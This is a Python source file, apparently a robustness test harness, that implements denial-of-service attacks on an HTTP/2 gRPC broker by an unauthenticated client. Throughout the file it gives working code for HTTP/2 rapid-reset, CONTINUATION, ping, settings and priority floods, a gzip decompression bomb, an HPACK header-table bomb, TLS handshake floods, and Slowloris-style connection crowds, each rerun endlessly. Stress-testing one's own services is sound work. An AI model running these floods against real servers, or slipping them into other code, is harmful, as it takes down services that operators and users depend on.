"""What somebody who can reach a broker's port, and has neither token nor certificate, may try.

Each attack is a function of an address that goes on until the connection is ended, and is begun anew by its process
until it is told to stop. None waits for an answer.
"""

import gzip
import itertools
import os
import select
import socket
import ssl

from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PLAY, PREFACE, PRIORITY, RST_STREAM,
                   SETTINGS, STATUS, WINDOW_UPDATE, connect, field, frame, greet, message, request, text)

AT_ONCE = 200  # frames in one write


def pour(wire, chunks):
    """Writes as fast as the other side takes it, and throws away what it says."""
    wire.setblocking(False)
    for chunk in chunks:
        view = memoryview(chunk)
        while view:
            readable, writable, _ = select.select([wire], [wire], [], 10)
            if readable and not wire.recv(1 << 20):
                return
            if writable:
                view = view[wire.send(view):]


def streams():
    return itertools.count(1, 2)


def lots(frames):
    """Frames, many to a chunk."""
    while lot := b"".join(itertools.islice(frames, AT_ONCE)):
        yield lot


def status_flood(address):
    wire = connect(address)
    greet(wire)
    ask = request(STATUS)
    pour(wire, lots(frame(HEADERS, END_HEADERS, s, ask) + frame(DATA, END_STREAM, s, message(b"")) for s in streams()))


def reset_flood(address):
    wire = connect(address)
    greet(wire)
    ask = request(PLAY)
    pour(wire, lots(frame(HEADERS, END_HEADERS, s, ask) + frame(RST_STREAM, 0, s, b"\0\0\0\x08") for s in streams()))


def idle_streams(address):
    wire = connect(address)
    greet(wire)
    ask = request(PLAY)
    pour(wire, lots(frame(HEADERS, END_HEADERS, s, ask) for s in streams()))


def continuation_flood(address):
    wire = connect(address)
    greet(wire)
    wire.sendall(frame(HEADERS, 0, 1, request(PLAY)))
    more = frame(CONTINUATION, 0, 1, b"".join(field("a%d" % i, "b") for i in range(500)))
    pour(wire, lots(itertools.repeat(more)))


def endless_header(address):
    wire = connect(address)
    greet(wire)
    wire.sendall(frame(HEADERS, 0, 1, request(PLAY) + b"\x00\x01a\x7f\xff\xff\xff\x7f"))
    pour(wire, lots(itertools.repeat(frame(CONTINUATION, 0, 1, b"x" * 16000))))


def gzip_bomb(address):
    wire = connect(address)
    greet(wire)
    bomb = message(gzip.compress(b"\0" * (50 << 20), 9), compressed=True)
    ask = request(PLAY, [("grpc-encoding", "gzip")])
    body = b"".join(frame(DATA, 0, 1, bomb[i:i + 16000]) for i in range(0, len(bomb), 16000))
    pour(wire, [frame(HEADERS, END_HEADERS, 1, ask) + body])
    wait(wire)


def large_messages(address):
    wire = connect(address)
    greet(wire)
    size = 64 << 20
    wire.sendall(frame(HEADERS, END_HEADERS, 1, request(PLAY)) + frame(DATA, 0, 1, message(b"")[:1] + size.to_bytes(4, "big")))
    pour(wire, itertools.repeat(frame(DATA, 0, 1, b"\x0a" * 16000), size // 16000))


def many_streams_with_large_messages(address):
    wire = connect(address)
    greet(wire)
    size = 2 << 20
    begin = b"".join(frame(HEADERS, END_HEADERS, s, request(PLAY)) + frame(DATA, 0, s, b"\0" + size.to_bytes(4, "big"))
                     for s in range(1, 200, 2))
    pour(wire, itertools.chain([begin], (frame(DATA, 0, s, b"\x0a" * 600) for _ in range(100) for s in range(1, 200, 2))))


def ping_flood(address):
    wire = connect(address)
    greet(wire)
    pour(wire, lots(itertools.repeat(frame(PING, 0, 0, b"12345678"))))


def settings_flood(address):
    wire = connect(address)
    greet(wire)
    pour(wire, lots(itertools.repeat(frame(SETTINGS, 0, 0))))


def window_flood(address):
    wire = connect(address)
    greet(wire)
    pour(wire, lots(itertools.repeat(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01"))))


def priority_flood(address):
    wire = connect(address)
    greet(wire)
    pour(wire, lots(frame(PRIORITY, 0, s, b"\0\0\0\0\x10") for s in streams()))


def unknown_frames(address):
    wire = connect(address)
    greet(wire)
    pour(wire, lots(itertools.repeat(frame(0x55, 0xff, 0, b"x" * 100))))


def empty_data(address):
    wire = connect(address)
    greet(wire)
    wire.sendall(frame(HEADERS, END_HEADERS, 1, request(PLAY)))
    pour(wire, lots(itertools.repeat(frame(DATA, 0, 1, b""))))


def header_table_bomb(address):
    """One field of 4,000 bytes, named again and again by one byte each."""
    wire = connect(address)
    greet(wire)
    begin = request(PLAY) + b"\x40" + text("x") + text("v" * 4000)
    bomb = frame(HEADERS, END_HEADERS, 1, begin + b"\xbe" * 10_000)
    pour(wire, itertools.chain([bomb], lots(frame(HEADERS, END_HEADERS, s, request(PLAY) + b"\xbe" * 10_000) for s in itertools.count(3, 2))))
    wait(wire)


def large_metadata(address):
    wire = connect(address)
    greet(wire)
    ask = request(STATUS, [("haggle-token", "x" * 15_000)])
    pour(wire, lots(frame(HEADERS, END_HEADERS, s, ask) + frame(DATA, END_STREAM, s, message(b"")) for s in streams()))


def plain_text(address):
    """To a port that speaks TLS: a whole request without it."""
    wire = connect(address)
    pour(wire, [PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, request(PLAY))])
    wait(wire)


def noise(address):
    wire = connect(address)
    pour(wire, itertools.repeat(os.urandom(1 << 14)))


def handshakes(address):
    """One TLS handshake after the other, each to its end, without a certificate."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    with context.wrap_socket(connect(address)) as wire:
        wire.recv(1)


def wait(wire):
    """Until the other side ends it."""
    wire.setblocking(True)
    wire.settimeout(60)
    while wire.recv(1 << 16):
        pass


def crowd(address, count, hello):
    """So many connections that say hello and nothing else, for as long as the process lives."""
    wires = []
    for _ in range(count):
        try:
            wire = connect(address)
            wire.sendall(hello)
            wires.append(wire)
        except OSError:
            pass  # refused: that is what it is there for
    return wires


FLOODS = {f.__name__: f for f in (status_flood, reset_flood, idle_streams, continuation_flood, endless_header, gzip_bomb,
                                  large_messages, many_streams_with_large_messages, ping_flood, settings_flood,
                                  window_flood, priority_flood, unknown_frames, empty_data, header_table_bomb,
                                  large_metadata, plain_text, noise, handshakes)}
HALF_A_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"x" * 100  # of TLS, of 517 bytes
CROWDS = {"silent_crowd": (500, b""), "idle_crowd": (1100, b""), "greeting_crowd": (500, PREFACE + frame(SETTINGS, 0, 0)),
          "half_a_preface_crowd": (500, PREFACE[:12]), "half_a_handshake_crowd": (500, HALF_A_HELLO),
          "closed_window_crowd": (500, PREFACE + frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0") +
                                  frame(HEADERS, END_HEADERS, 1, request(STATUS)) + frame(DATA, END_STREAM, 1, message(b"")))}
# What is tried on a broker with keys.
ON_TLS = {"plain_text", "noise", "handshakes", "half_a_handshake_crowd"}


def repeat(name, address, begun):
    """Runs an attack again and again; `begun` is called when the first connection stands."""
    if name in CROWDS:
        count, hello = CROWDS[name]
        wires = crowd(address, 100, hello)
        begun()
        wires += crowd(address, count - 100, hello)
        while True:
            watched = select.poll()  # select knows no descriptors above 1023
            for wire in wires:
                watched.register(wire, select.POLLIN)
            ready = {descriptor for descriptor, _ in watched.poll(1000)}
            for wire in [wire for wire in wires if wire.fileno() in ready]:
                try:
                    over = not wire.recv(1 << 16)
                except OSError:
                    over = True
                if over:
                    wires.remove(wire)
                    wires += crowd(address, 1, CROWDS[name][1])
    first = True
    while True:
        if first:
            connect(address).close()
            begun()
            first = False
        try:
            FLOODS[name](address)
        except OSError:
            pass  # it was shut: begin anew
